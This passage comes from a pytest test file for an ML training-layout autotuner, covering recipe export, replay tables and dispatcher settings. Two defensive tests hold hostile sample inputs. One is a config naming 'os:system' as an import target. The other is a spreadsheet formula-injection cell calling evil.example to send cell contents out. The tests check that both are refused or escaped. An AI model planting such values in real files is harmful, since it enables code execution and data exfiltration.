    oom = repo.claim_dispatch(study.id, other.to_dict(), other.key(), None, "c", 4, predicted={},
                              dispatch_key=f"{other.key()}#validation", origin=TrialOrigin.VALIDATION)
    repo.finish_trial(study.id, oom.number, "oom", reason="out_of_memory", metrics={"peak_mem_gib": 81.0})
    text = leaderboard.layout_runs_text(leaderboard.trial_view(repo, study, repo.trial(study.id, low)))
    assert f"validated in longer runs (--validate-steps, reported apart from the screening runs): trial {oom.number} " \
        "(ran out of memory)" in text


# --- the exported recipe builds exactly the function the trials ran, for every model of the catalog ---

class _Config(types.SimpleNamespace):
    """A ConfigContainer stand-in: sub-configs that take any field."""

    def __init__(self):
        parts = ("model", "train", "dataset", "ddp", "optimizer")
        super().__init__(**{part: types.SimpleNamespace() for part in parts})


def _fake_megatron(monkeypatch, model):
    """Stand-ins for megatron.bridge, its recipe modules and transformers, recording which recipe (and
    pipeline-layout) function is called: the worker's build_config and an exported recipe run on them."""
    calls = []

    def module(name, **attrs):
        mod = types.ModuleType(name)
        mod.__dict__.update(attrs)
        monkeypatch.setitem(sys.modules, name, mod)
        return mod

    def recorded(name, result=None):
        def function(*args, **kwargs):
            calls.append(name)
            return _Config() if result is None else result
        return function

    class AutoBridge:
        @classmethod
        def from_hf_config(cls, hf):
            return cls()

    module("megatron")
    module("megatron.bridge", AutoBridge=AutoBridge)
    module("megatron.bridge.training.utils.omegaconf_utils",
           process_config_with_overrides=lambda cfg, cli_overrides: cfg)
    module("transformers", AutoConfig=types.SimpleNamespace(for_model=lambda *a, **k: object()))
    for target in filter(None, (model.recipe_target, model.pipeline_layout_function)):
        name, _, function = target.partition(":")
        existing = sys.modules.get(name)
        mod = existing if existing is not None and getattr(existing, "__file__", None) is None else module(name)
        setattr(mod, function, recorded(target, result=None if target == model.recipe_target else False))
    return calls


def _catalog():
    from autotune.space import list_models

    return [m for m in list_models() if m.exportable]


@pytest.mark.parametrize("model", _catalog(), ids=lambda m: m.name)
def test_the_exported_recipe_builds_the_function_the_worker_measured(tmp_path, monkeypatch, model):
    """For every exportable model: the recipe module imports the catalog's recipe target (by AST), and
    run against stand-ins for Megatron-Bridge, the worker's build_config and the exported
    `<model>_autotuned_config()` call the very same recipe function (and pipeline-layout function)."""
    from workers.launcher import build_config

    repo, study, layout = _study_with_trial(tmp_path, model.defaults.layout, model=model.name, gpus=model.defaults.gpus)
    source = export.render(repo, study, "recipe")
    module, function = model.recipe_target.split(":")
    imports = [n for n in ast.parse(source).body if isinstance(n, ast.ImportFrom) and n.module != "__future__"]
    first = imports[0]
    assert (first.module, first.names[0].name, first.names[0].asname) == (module, function, "_base_recipe")

    calls = _fake_megatron(monkeypatch, model)
    build_config({"model": model.name, "overrides": []}, [])
    worker_calls, calls[:] = list(calls), []
    namespace: dict = {}
    exec(compile(source, "tuned.py", "exec"), namespace)
    cfg = namespace[f"{model.name}_autotuned_config"]()
    assert calls == worker_calls and calls[0] == model.recipe_target
    assert cfg.model.tensor_model_parallel_size == layout.tp and cfg.train.micro_batch_size == layout.mbs
    overrides = export.render(repo, study, "overrides")
    assert f"--recipe {function} " in overrides  # run_recipe.py looks it up by this name


def test_models_without_a_bridge_recipe_are_refused(tmp_path):
    from autotune.errors import ConfigError

    repo, study, _ = _study_with_trial(tmp_path, {"tp": 1, "mbs": 8, "recompute": "full", "recompute_method": "uniform",
                                                  "recompute_num_layers": 1}, model="vtrain_gpt_3p6b", gpus=64)
    for fmt in ("recipe", "overrides"):
        with pytest.raises(ConfigError, match="no recipe of this model"):
            export.render(repo, study, fmt)


@pytest.mark.parametrize("key,value", [("target", "os:system"), ("layout_function", "subprocess:getoutput")])
def test_a_recipe_importing_outside_the_allowed_packages_is_not_exported(tmp_path, monkeypatch, key, value):
    """Found by an adversarial pass: a space file naming `recipe.target: os:system` (or a pipeline layout function
    outside Megatron-Bridge's recipes) was written into the exported module, which imports and calls it; the GPU
    worker refuses those, export did not. The same allow-list applies (AUTOTUNE_RECIPE_PACKAGES widens it)."""
    from autotune.errors import ConfigError
    from autotune.space import load_space, make_workload, space_dir

    text = (space_dir() / "qwen3_30b.yaml").read_text()
    if key == "target":
        text = text.replace("target: megatron.bridge.recipes.qwen.h100.qwen3_moe:qwen3_30b_a3b_pretrain_16gpu_h100_bf16_config",
                            f"target: {value}", 1)
    else:
        assert "layout_function" not in text
        text = text.replace("\npipeline:\n", f"\npipeline:\n  layout_function: {value}\n", 1)
    path = tmp_path / "hostile.yaml"
    path.write_text(text)
    space = load_space(str(path))
    assert value in (space.model.recipe_target, space.model.pipeline_layout_function)
    repo = Repository.open(f"sqlite:///{tmp_path / 'h.db'}")
    study = repo.create_study(name="h", model=space.model.name, workload=make_workload(space, gpus=16).to_dict(),
                              space=space.to_dict(), budget=2, sampler="auto", backend="simulate", backend_options={},
                              options={}, optuna_study_name="autotune:h", status="finished")
    layout = LayoutConfig.from_mapping({"ep": 16})
    trial = repo.claim_dispatch(study.id, layout.to_dict(), layout.key(), 0, "c", 2)
    repo.finish_trial(study.id, trial.number, "completed", metrics={"step_time_s": 30.0, "tokens_per_s_per_gpu": 8000.0,
                                                                     "peak_mem_gib": 70.5})
    monkeypatch.delenv("AUTOTUNE_RECIPE_PACKAGES", raising=False)
    with pytest.raises(ConfigError, match=f"{value.split(':')[0]}.* is outside megatron.bridge.recipes"):
        export.render(repo, study, "recipe")
    assert value not in export.render(repo, study, "overrides")  # overrides name no import: still given
    monkeypatch.setenv("AUTOTUNE_RECIPE_PACKAGES", value.split(":")[0])  # whoever runs autotune allowed it
    assert f"from {value.split(':')[0]} import {value.split(':')[1]}" in export.render(repo, study, "recipe")


@pytest.mark.parametrize("backend,options,source,note", [
    ("simulate", {}, "simulated", "the simulate backend's cost model; no training ran"),
    ("replay", {"replay": "sweep.csv"}, "replayed", 'looked up in the replay table "sweep.csv"'),
    ("megatron", {}, "measured", "a megatron backend run"),
    ("command", {"command": ["launch"]}, "measured", "a command backend run"),
])
def test_the_numbers_are_called_what_they_are(tmp_path, backend, options, source, note):
    """`measured` only for runs: a simulate study's numbers are simulated, a replay study's replayed."""
    repo, study, _ = _study_with_trial(tmp_path, FULL, backend=backend, backend_options=options)
    header = [line for line in export.render(repo, study, "overrides").splitlines() if line.startswith("#")]
    # with the ± the leaderboard gives (one run: the run-to-run sd, here the assumed 3%); replay repeats exactly
    figure = "8,000 tokens/s/GPU" if backend == "replay" else "8,000 ±240 tokens/s/GPU"
    assert header[1].startswith(f"# {source} {figure} on 16x h100 (") and note in header[1]
    document = json.loads(export.render(repo, study, "json"))
    assert document["metrics_source"] == source and note in document["metrics_note"]
    assert "measured" not in document
    recipe = export.render(repo, study, "recipe")
    assert f"({source} {figure};" in recipe.splitlines()[0]
    if source != "measured":
        assert "measured" not in recipe and "measured" not in "\n".join(header)


def test_an_imported_log_is_a_measurement_even_in_a_simulate_study(tmp_path):
    repo, study, _ = _study_with_trial(tmp_path, FULL)
    import dataclasses

    trial = dataclasses.replace(repo.trial(study.id, 1), origin="imported")  # what import-log records
    assert export.metrics_note(study, trial) == ("measured", "an imported log")
    assert export.metrics_note(study, repo.trial(study.id, 1))[0] == "simulated"


def test_a_knob_variant_replays_as_itself_not_as_its_layout(tmp_path):
    """Performance knobs get their own table columns (issue 16): a variant and its layout stay apart."""
    import threading

    from autotune.backends import TrialStatus, create_backend
    from tests.backends.backend_suite import make_spec

    repo, study, layout = _study_with_trial(tmp_path, {"ep": 16, "dist_opt": True})
    variant = layout.replace(ep_overlap=True, cuda_graph="none")
    trial = repo.claim_dispatch(study.id, variant.to_dict(), variant.key(), 1, "c", 3)
    repo.finish_trial(study.id, trial.number, "completed",
                      metrics={"step_time_s": 20.0, "tokens_per_s_per_gpu": 12000.0, "peak_mem_gib": 70.0})
    path = tmp_path / "table.csv"
    path.write_text(export.render(repo, study, "table"))
    frame = pd.read_csv(path)
    assert {"ep_overlap", "cuda_graph"} <= set(frame.columns) and len(frame) == 2
    backend = create_backend("replay", {"replay": str(path)})
    for config, step_s in ((variant, 20.0), (layout, 30.0)):
        outcome = backend.run(make_spec(config=config.to_dict()), lambda r: None, threading.Event())
        assert outcome.status == TrialStatus.COMPLETED and outcome.step_time_s == step_s


def test_a_study_replayed_from_its_own_table_replays_its_knob_variants_too(tmp_path):
    """A study that tuned performance knobs, exported as a table and replayed with a larger budget:
    once its layouts are replayed the knob phase replays the variants the table holds (the best
    configuration had a CUDA-graph setting and was never replayed before), and only those."""
    from autotune.controller.session import build_controller, create_study
    from autotune.space import load_space, make_workload

    repo = Repository.open(f"sqlite:///{tmp_path / 'knobs.db'}")
    space = load_space("qwen3_30b")
    workload = make_workload(space, gpus=16)
    first = create_study(repo, name="tuned", space=space, workload=workload, budget=12, sampler="auto",
                         backend="simulate", backend_options={"seconds_per_trial": 0.0}, seed=0)
    build_controller(repo, first, dispatcher="inprocess").run()
    table = tmp_path / "tuned.csv"
    table.write_text(export.render(repo, repo.get_study("tuned"), "table"))
    frame = pd.read_csv(table)
    best_row = frame.loc[frame["tokens_per_s_per_gpu"].idxmax()]
    assert any(pd.notna(best_row.get(k)) for k in ("cuda_graph", "ep_overlap", "dispatcher"))  # a variant won
    replay = create_study(repo, name="replayed", space=space, workload=workload, budget=20, sampler="auto",
                          backend="replay", backend_options={"replay": str(table)}, seed=0)
    build_controller(repo, replay, dispatcher="inprocess").run()
    trials = repo.trials(repo.get_study("replayed").id, dispatched_only=True)
    assert all(t.status == "completed" for t in trials)  # nothing proposed that the table lacks
    assert max(t.tokens_per_s_per_gpu for t in trials) == pytest.approx(best_row["tokens_per_s_per_gpu"])
    repo.close()


def test_export_output_through_a_symlink_a_fifo_and_dev_stdout(cli, tmp_path):
    """-o follows a symlink (the file it names is replaced whole, the link stays), writes a FIFO or
    /dev/stdout directly (never replaced by a file, never read first), and then says what it wrote on
    stderr, so stdout holds the export alone."""
    import os
    import threading

    repo, study, _ = _study_with_trial(tmp_path, FULL)
    real, link = tmp_path / "real.csv", tmp_path / "link.csv"
    real.write_text("old")
    link.symlink_to(real)
    result = cli("export", "ex", "--format", "table", "-o", str(link), "--storage", repo.url)
    assert result.returncode == 0, result.stderr
    assert link.is_symlink() and real.read_text().startswith("tp,")
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_text()), daemon=True)
    reader.start()
    result = cli("export", "ex", "--format", "json", "-o", str(fifo), "--storage", repo.url, timeout=60)
    reader.join(30)
    assert result.returncode == 0 and json.loads(received[0])["trial"] == 1
    assert fifo.exists() and not fifo.is_file()
    result = cli("export", "ex", "--format", "json", "-o", "/dev/stdout", "--storage", repo.url, timeout=60)
    assert result.returncode == 0 and json.loads(result.stdout)["trial"] == 1
    assert "wrote /dev/stdout" in result.stderr


def test_a_completed_trial_without_a_throughput_is_refused_in_one_line(tmp_path):
    """Found by review: a completed row whose throughput is NULL (autotune never writes one; a hand-edited
    or foreign store may hold it) made every format raise TypeError while formatting its number."""
    import sqlite3

    repo, study, _ = _study_with_trial(tmp_path, FULL)
    with sqlite3.connect(tmp_path / "ex.db") as db:
        db.execute("UPDATE autotune_trials SET tokens_per_s_per_gpu = NULL")
    from tests.conftest import run_cli

    (trial,) = repo.trials(study.id)
    for fmt in ("recipe", "overrides", "json"):
        result = run_cli("export", study.name, "--trial", str(trial.number), "--format", fmt, "--storage", repo.url)
        assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr[-1000:]
        assert len(result.stderr.strip().splitlines()) == 1 and "without a measured throughput" in result.stderr


def test_a_replay_table_refuses_a_hand_edited_illegal_row_as_the_other_formats_do(tmp_path):
    """Review: `export --format table` passed on a trial whose config breaks Megatron's rules (TP=3 for 32
    heads, edited by hand) that recipe, overrides, yaml and json refuse; it is the replay backend's input."""
    from sqlalchemy import text

    from autotune.errors import IllegalLayoutError

    repo, study, _ = _study_with_trial(tmp_path, {"ep": 16, "dist_opt": True})
    assert "completed" in export.render(repo, study, "table")
    with repo.engine.begin() as c:
        c.execute(text("UPDATE autotune_trials SET config = json_set(config, '$.tp', 3)"))
    for fmt in ("table", "json"):
        with pytest.raises(IllegalLayoutError, match="heads_divisible_by_tp"):
            export.render(repo, study, fmt)


def test_export_quotes_the_layouts_mean_as_every_other_command_does(tmp_path):
    """Found by a new-user pass: the summary, status, leaderboard and show gave the winner as 8,776 +-177 (the mean
    of its two runs), export as 8,923 (the chosen trial's own run) in its message, the recipe's header and the
    provenance. Now every format carries the layout's mean, its standard error and which runs it counts."""
    from autotune.storage import Repository
    from tests.conftest import run_cli

    url = f"sqlite:///{tmp_path / 'mean.db'}"
    env = {"RAY_AUTH_MODE": "disabled", "HOME": str(tmp_path)}
    started = run_cli("start", "--model", "qwen3_30b", "--budget", "12", "--noise", "0.05", "--seed", "4",
                      "--study", "v4", "--storage", url, "--sim-seconds", "0", env=env, timeout=300)
    assert started.returncode == 0, started.stderr
    summary = json.loads(run_cli("leaderboard", "v4", "--storage", url, "--format", "json", env=env).stdout)["summary"]
    winner = json.loads(run_cli("export", "v4", "--format", "json", "--storage", url, env=env).stdout)
    assert winner["trial"] == summary["best_trial"]
    assert winner["layout_mean"]["mean_tokens_per_s_per_gpu"] == pytest.approx(summary["best_tokens_per_s_per_gpu"])
    assert winner["layout_mean"]["mean_se_tokens_per_s_per_gpu"] == \
        pytest.approx(summary["best_tokens_per_s_per_gpu_se"])
    repo = Repository.open(url)
    runs: dict[str, list[int]] = {}
    for t in repo.trials(repo.get_study("v4").id, dispatched_only=True):
        if t.status == "completed" and t.origin == "study":
            runs.setdefault(t.config_key, []).append(t.number)
    repo.close()
    number = next(numbers for numbers in runs.values() if len(numbers) > 1)[-1]  # a layout remeasured
    shown = json.loads(run_cli("show", "v4", str(number), "--json", "--storage", url, env=env).stdout)
    exported = run_cli("export", "v4", "--trial", str(number), "--format", "json", "--storage", url, env=env)
    data = json.loads(exported.stdout)
    mean = data["layout_mean"]
    assert len(mean["trials"]) > 1 and number in mean["trials"]
    assert mean["mean_tokens_per_s_per_gpu"] == pytest.approx(shown["layout_mean_tokens_per_s_per_gpu"])
    assert mean["mean_se_tokens_per_s_per_gpu"] == pytest.approx(shown["layout_mean_se"])
    assert data["metrics"]["tokens_per_s_per_gpu"] == pytest.approx(shown["tokens_per_s_per_gpu"])  # its own run
    said = f"{mean['mean_tokens_per_s_per_gpu']:,.0f} ±{mean['mean_se_tokens_per_s_per_gpu']:,.0f} tokens/s/GPU, " \
           f"the mean of trials {', '.join(map(str, mean['trials']))}"
    assert said in exported.stderr
    for fmt in ("recipe", "overrides"):
        assert said in run_cli("export", "v4", "--trial", str(number), "--format", fmt, "--storage", url,
                               env=env).stdout


@pytest.mark.parametrize("cuda_graph, said", [("full_iteration", True), ("none", False)])
def test_export_says_when_the_layout_switches_a_safety_check_off(tmp_path, cuda_graph, said):
    """Found by a new-user pass: the recipe of a full-iteration CUDA graph winner set check_for_nan_in_loss=False
    (Megatron's validate() requires it) without a word, while benchmark-only settings are refused unless told."""
    from tests.conftest import run_cli

    repo, study, _ = _study_with_trial(tmp_path, {"ep": 8, "tp": 2, "sp": True, "mbs": 2, "dist_opt": True,
                                                  "cuda_graph": cuda_graph})
    for fmt in ("recipe", "overrides", "yaml"):
        done = run_cli("export", "ex", "--storage", str(repo.engine.url), "--format", fmt)
        assert done.returncode == 0, done.stderr[-1000:]
        note = "note: the exported layout sets rerun_state_machine.check_for_nan_in_loss=False: full-iteration CUDA"
        assert (note in done.stderr) is said, done.stderr
    # a write that fails is one line, the note unsaid (a new-user pass got the note first, then the error)
    failed = run_cli("export", "ex", "--storage", str(repo.engine.url), "--format", "json", "-o",
                     str(tmp_path / "missing" / "x.json"))
    assert failed.returncode == 2 and failed.stderr.strip().splitlines() == [
        f"autotune export: error: cannot write {tmp_path / 'missing' / 'x.json'}: No such file or directory"], failed.stderr


def test_a_replay_table_writes_integer_knobs_as_integers(tmp_path):
    """Found by a new-user pass: a column with empty cells (a layout without recompute) wrote recompute_num_layers
    as `1.0`."""
    import io

    import pandas as pd

    repo, study, _ = _study_with_trial(tmp_path, {"ep": 16, "dist_opt": True})
    layout = LayoutConfig.from_mapping(FULL)
    trial = repo.claim_dispatch(study.id, layout.to_dict(), layout.key(), 1, "c", 2)
    repo.finish_trial(study.id, trial.number, "completed", metrics={"step_time_s": 30.0, "tokens_per_s_per_gpu": 8000.0,
                                                                    "peak_mem_gib": 70.0})
    text = export.table_frame(repo, repo.get_study("ex"), {}).to_csv(index=False)
    column = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)["recompute_num_layers"].tolist()
    assert column == ["", str(FULL["recompute_num_layers"])], column  # the empty cell stays empty, the 2 is "2"


def test_a_replay_tables_error_cells_are_never_a_spreadsheet_formula(tmp_path):
    """An adversarial pass: a launcher's error `=HYPERLINK(...)` went into the exported CSV as it was, a formula
    for whoever opens the table in a spreadsheet. A cell starting like one gets a leading quote."""
    import io

    import pandas as pd

    from autotune.storage.models import StudyRow

    repo, study, _ = _study_with_trial(tmp_path, {"ep": 16, "dist_opt": True})
    with repo.session() as s:
        s.get(StudyRow, study.id).budget = 5
    for number, message in ((1, '=HYPERLINK("http://evil.example/?"&A1,"click")'), (2, "@SUM(A1)"),
                            (3, "-2+3"), (4, "NCCL error: -5")):
        layout = LayoutConfig.from_mapping({**FULL, "mbs": (1, 2, 4, 8)[number - 1]})
        trial = repo.claim_dispatch(study.id, layout.to_dict(), layout.key(), number, "c", 5)
        repo.finish_trial(study.id, trial.number, "failed", message=message)
    text = export.table_frame(repo, repo.get_study("ex"), {}).to_csv(index=False)
    errors = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)["error"].tolist()
    assert errors[1:] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'@SUM(A1)", "'-2+3",
                          "NCCL error: -5"], errors


@pytest.mark.parametrize("backend,options,written", [
    ("megatron", {"dispatcher": "alltoall"}, "alltoall"),  # the runs were all-to-all: so is the export
    ("megatron", {}, "alltoall"),  # a study stored before the option was written ran all-to-all too
    ("megatron", {"dispatcher": "recipe"}, None),  # the recipe's own dispatcher ran: nothing to write
    ("simulate", {}, None),
])
def test_the_export_writes_the_dispatcher_the_runs_ran(tmp_path, backend, options, written):
    """Review with megatron-probe: the GPU worker ran all-to-all where a trial set no dispatcher, and the export
    left the recipe's flex dispatcher in place: the exported recipe ran something that was never measured."""
    repo, study, _ = _study_with_trial(tmp_path, {"ep": 8, "dist_opt": True}, backend=backend, backend_options=options)
    trial = repo.trials(study.id)[0]
    overrides = parse_overrides([line for line in export.render_overrides(study, trial).splitlines()
                                 if not line.startswith("#")])
    assert overrides.get("model.moe_token_dispatcher_type") == written
    assert ("model.moe_token_dispatcher_type = 'alltoall'" in export.render_recipe(study, trial)) == bool(written)
    # a trial that set a flex dispatcher ran it, unless the study forced all-to-all (then its SM count is dropped:
    # all-to-all ignores it; review)
    flex = {"ep": 8, "dist_opt": True, "dispatcher": "flex_deepep", "dispatcher_sms": 24}
    repo2, study2, _ = _study_with_trial(tmp_path / "flex", flex, backend=backend, backend_options=options)
    flexed = parse_overrides([line for line in export.render_overrides(study2, repo2.trials(study2.id)[0]).splitlines()
                              if not line.startswith("#")])
    assert flexed["model.moe_token_dispatcher_type"] == ("alltoall" if written else "flex")
    assert ("model.moe_flex_dispatcher_num_sms" in flexed) == (not written)


def test_a_study_that_runs_every_trial_all_to_all_tunes_no_dispatcher(tmp_path):
    """`--backend megatron --dispatcher alltoall` (a container without the flex backends): no flex variant, no SM
    count; the recipe's dispatcher (the default) keeps both knobs."""
    from autotune.controller.session import without_unrunnable_dispatchers as _without_unrunnable_dispatchers
    from autotune.space import load_space, make_workload

    space = load_space("qwen3_30b")
    workload = make_workload(space, gpus=16)
    assert {"dispatcher", "dispatcher_sms"} <= set(space.perf_domains)
    forced = _without_unrunnable_dispatchers(space, workload, "megatron", {"dispatcher": "alltoall"})
    assert not {"dispatcher", "dispatcher_sms"} & set(forced.perf_domains) and "cuda_graph" in forced.perf_domains
    for backend, options in (("megatron", {"dispatcher": "recipe"}), ("simulate", {})):
        assert _without_unrunnable_dispatchers(space, workload, backend, options).perf_domains == space.perf_domains
    # a study made through the Python API stores the recipe's dispatcher as the CLI does, and a forced one no knob
    from autotune.controller.session import create_study
    from autotune.storage import Repository

    repo = Repository.open(f"sqlite:///{tmp_path / 'api.db'}")
    plain = create_study(repo, name="api", space=space, workload=workload, budget=2, sampler="auto",
                         backend="megatron", backend_options={}, seed=0)
    assert plain.backend_options["dispatcher"] == "recipe" and "dispatcher" in plain.space["perf_domains"]
    forced = create_study(repo, name="api2", space=space, workload=workload, budget=2, sampler="auto",
                          backend="megatron", backend_options={"dispatcher": "alltoall"}, seed=0)
    assert "dispatcher" not in forced.space["perf_domains"] and "dispatcher_sms" not in forced.space["perf_domains"]
